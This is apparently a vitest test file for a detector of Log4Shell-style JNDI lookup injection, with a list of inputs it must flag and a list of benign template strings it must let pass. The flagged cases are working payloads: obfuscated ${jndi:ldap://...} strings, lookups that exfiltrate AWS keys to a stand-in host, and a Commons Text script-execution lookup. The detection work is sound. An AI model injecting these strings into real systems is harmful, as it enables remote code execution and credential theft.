import { describe, expect, it } from 'vitest';
import { readLookups } from './jndi/lookups.ts';
import { jndi } from './jndi.ts';
import { detectIn } from './testing/detect-in.ts';

describe('JNDI lookups', () => {
  it.each([
    '${jndi:ldap://x.example/a}',
    '${JNDI:LDAP://x.example/a}',
    '${jndi:rmi://x.example/a}',
    '${jndi:dns://x.example}',
    '${jndi:ldaps://x.example:636/a}',
    '${jndi:iiop://x.example/a}',
    'Mozilla/5.0 ${jndi:ldap://x.example/a}',
    '${${lower:j}ndi:ldap://x.example/a}',
    '${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://x.example/a}',
    '${${upper:j}ndi:ldap://x.example/a}',
    '${jnd${upper:\u0131}:ldap://x.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}',
    '${${env:NOTHING:-j}ndi:ldap://x.example/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
    '${${lower:${lower:j}}ndi:ldap://x.example/a}',
    '${${lower:${upper:${lower:jn}}}di:ldap://x.example/a}',
    '${${sys:x:-jn}${sys:y:-di}:ldap://x.example/a}',
    '${${what:ever:-j}ndi${env:E:-:}ldap://x.example/a}',
    '$${env:a:-${env:b:-$}{jndi:ldap://x.example/a}}}',
    '${${base64:am5kaQ==}:ldap://x.example/a}',
    '${jndi:${lower:l}${lower:d}ap://x.example/a}',
    '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}',
    '${jndi:ldap://x.example/a',
    '${${lower:j}ndi:ldap://x.example/a',
    '${ jndi:ldap://x.example/a}',
    'a=${jndi:ldap://127.0.0.1#x.example/a}',
    '{jndi:ldap://x.example/a}',
    '$jndi:rmi://x.example/a',
    '${${:::::-j}ndi:ldap://x.example/a}',
    '${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x.example/a}',
    // Lookups that tell what the process knows
    '${sys:java.version}',
    '${java:os}',
    '${env:AWS_ACCESS_KEY_ID}',
    '${ctx:loginId}',
    '${main:0}',
    '${bundle:application:spring.datasource.password}',
    '${docker:containerId}',
    '${web:rootDir}',
    // What Commons Text evaluates
    '${script:javascript:java.lang.Runtime.getRuntime()}',
    '${url:utf-8:http://x.example/a}',
    '${dns:address|x.example}',
  ])('finds %s', (value) => {
    expect(detectIn(jndi, value)).toMatch(/medium|high/);
  });

  it.each(['${sys:user.home}', '${env:HOME}.x.example', '${sys:user.home}/../${env:AWS_SECRET}'])(
    'finds %s, too',
    (value) => {
      expect(detectIn(jndi, value)).toMatch(/medium|high/);
    },
  );

  it.each([
    '${sys:user.home}/Downloads',
    '${name}',
    '${env:STAGE}',
    '${self:custom.stage}',
    '${opt:stage, "dev"}',
    '${ssm:/path/to/param}',
    '${cf:stack.output}',
    '${file(./config.yml):key}',
    '${AWS::Region}',
    '${AWS::StackName}-bucket',
    '${HOME:-/root}',
    '${1:-default}',
    '${var:0:3}',
    '${DB_HOST:localhost}',
    '${spring.datasource.url:jdbc:h2:mem:test}',
    '${{ github.ref }}',
    '${a ? b : c}',
    '`${x}: ${y}`',
    '{"a":"${b}"}',
    'jndi',
    'JNDI: the Java Naming and Directory Interface',
    'java:comp/env/jdbc/db',
    'ldap://ldap.example.com:389/dc=example',
    'Upgrade log4j: CVE-2021-44228 lets one use jndi:ldap lookups in a message.',
    'lower: 1, upper: 2',
    '$ {jndi}',
    '${lower}',
    '$5: cheap; ${price}: dear',
    '${date:yyyy-MM-dd}',
    '${workspaceFolder}/${file}',
    '${env:HOMEPAGE_TITLE}',
    '${input:token}',
    '${config:editor.fontSize}',
    '${command:python.interpreterPath}',
    '${project.basedir}/src:${project.version}',
    '#{host}:#{port}',
    '%{host}:%{port}',
    '{{a}}: {{b}}',
    '${a}${b}:${c}',
    'time: ${h}:${m}:${s}',
    'C:\\Users\\${user}',
  ])('lets %s pass', (value) => {
    expect(detectIn(jndi, value)).toBeUndefined();
  });

  it('evaluates in linear work, however deep', () => {
    for (const unit of ['${', '${a:-', '${lower:', '}', '${::-$}{', '${${', '${a:-b}'])
      expect(() => readLookups(unit.repeat(20_000))).not.toThrow();
  });
});
